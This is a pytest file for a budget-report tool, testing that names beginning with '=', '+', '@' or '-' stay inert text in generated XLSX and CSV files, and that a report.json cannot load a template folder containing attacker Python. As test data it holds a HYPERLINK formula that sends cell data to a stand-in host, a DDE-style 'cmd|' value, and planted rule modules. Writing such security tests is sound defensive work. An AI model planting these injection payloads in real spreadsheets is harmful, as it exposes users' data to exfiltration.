"""Formula injection: a unit or project name starting with "=" must stay text in every XLSX and
CSV we write (issue 13). A spreadsheet runs ``=HYPERLINK("http://…?"&A1, …)`` when it opens it."""
from __future__ import annotations

import csv
import io
import json
import zipfile

from openpyxl import load_workbook

from .run import refused, small_budget, yusuan  # noqa: F401

PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'


def _hostile_budget(tmp_path):
    path = tmp_path / "hostile.yaml"
    path.write_text(small_budget(("{name: 测试局,", "{name: '" + PAYLOAD.replace("'", "''") + "',"),
                                 ("name: 测试项目", "name: '@SUM(1+1)*cmd|x'"),
                                 ("level3: 车辆", "level3: '-2+3'"),
                                 ("value: 1辆", "value: '+1辆'")), encoding="utf-8")
    return path


def _formulas(path):
    book = load_workbook(path)
    return [(ws.title, cell.coordinate, cell.value) for ws in book.worksheets
            for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


def test_names_starting_with_a_formula_stay_text_in_report_xlsx_and_the_csvs(tmp_path):
    budget = _hostile_budget(tmp_path)
    run = yusuan("build", budget, "-f", "xlsx,datapackage,json", "-o", tmp_path / "out")
    assert run.code == 0, run.stderr
    report = tmp_path / "out" / "report.xlsx"
    assert _formulas(report) == []  # report.xlsx holds no formula of ours, so none at all
    book = load_workbook(report)
    texts = {cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.data_type == "s"}
    assert PAYLOAD in texts and "@SUM(1+1)*cmd|x" in texts

    with zipfile.ZipFile(tmp_path / "out" / "datapackage.zip") as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("line-items.csv").decode("utf-8"))))
    assert {r["unit"] for r in rows} == {"'" + PAYLOAD}
    assert "'@SUM(1+1)*cmd|x" in {r["project_name"] for r in rows}
    assert all(not value.startswith(("=", "+", "@", "\t", "\r")) for r in rows for value in r.values())
    assert {r["amount"] for r in rows} >= {"1000000.00", "20000"}  # numbers stay numbers


def test_the_budget_workbook_keeps_only_its_own_formulas(tmp_path):
    budget = _hostile_budget(tmp_path)
    run = yusuan("template", "--from", budget, "-o", tmp_path / "budget.xlsx")
    assert run.code == 0, run.stderr
    formulas = _formulas(tmp_path / "budget.xlsx")
    assert formulas  # the running totals are ours
    assert not [f for f in formulas if "HYPERLINK" in f[2] or "cmd" in f[2]]
    # and it reads back as the budget it came from, names and all
    again = yusuan("build", tmp_path / "budget.xlsx", "-f", "json", "-o", tmp_path / "again")
    assert again.code == 0, again.stderr
    assert json.loads((tmp_path / "again" / "report.json").read_text(encoding="utf-8"))["unit_name"] == PAYLOAD


def test_index_csv_of_a_folder_neutralises_names_and_keeps_negative_numbers_as_numbers(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    _hostile_budget(folder)
    run = yusuan("read", folder, "-o", tmp_path / "data")
    assert run.code in (0, 1), run.stderr
    text = (tmp_path / "data" / "index.csv").read_text(encoding="utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["unit"] == "'" + PAYLOAD
    assert not row["total_wan_yuan"].startswith("'")


def test_csvsafe_rule():
    from yusuan.render.csvsafe import cell

    assert [cell(v) for v in ("=1+1", "+1", "-1+2", "@x", "\t=1", "\r=1", "-12.50", "-3", "a=b", "", 5)] == \
        ["'=1+1", "'+1", "'-1+2", "'@x", "'\t=1", "'\r=1", "-12.50", "-3", "a=b", "", 5]


def test_a_report_json_cannot_choose_a_template_folder_whose_python_would_run(tmp_path):
    """A folder of uploads holding evil/template.yaml and evil/rules.py, and a report.json naming
    "evil": its template was loaded as a folder, and `check` ran the rules, `read` and `render` the
    prose — code chosen by a document. A report.json names a built-in template; the user names
    any other with --template. (Was: exit 1 with /tmp/…/ran written.)"""
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / "template.yaml").write_text("id: evil\nextends: shanxi-2024\n", encoding="utf-8")
    for module in ("rules", "prose", "reading"):
        (evil / f"{module}.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w').write('{module}')\n", encoding="utf-8")
    report = tmp_path / "report.json"
    report.write_text('{"schema": "yusuan-report/1", "template": "evil", "year": 2024, "unit_name": "x"}', encoding="utf-8")
    for args in (("check", "report.json"), ("read", "report.json", "-o", "out"), ("render", "report.json", "-o", "out")):
        line = refused(yusuan(*args, cwd=tmp_path), "report.json:template: names the template 'evil', which is not built in")
        assert "--template" in line
    assert not (tmp_path / "ran").exists()
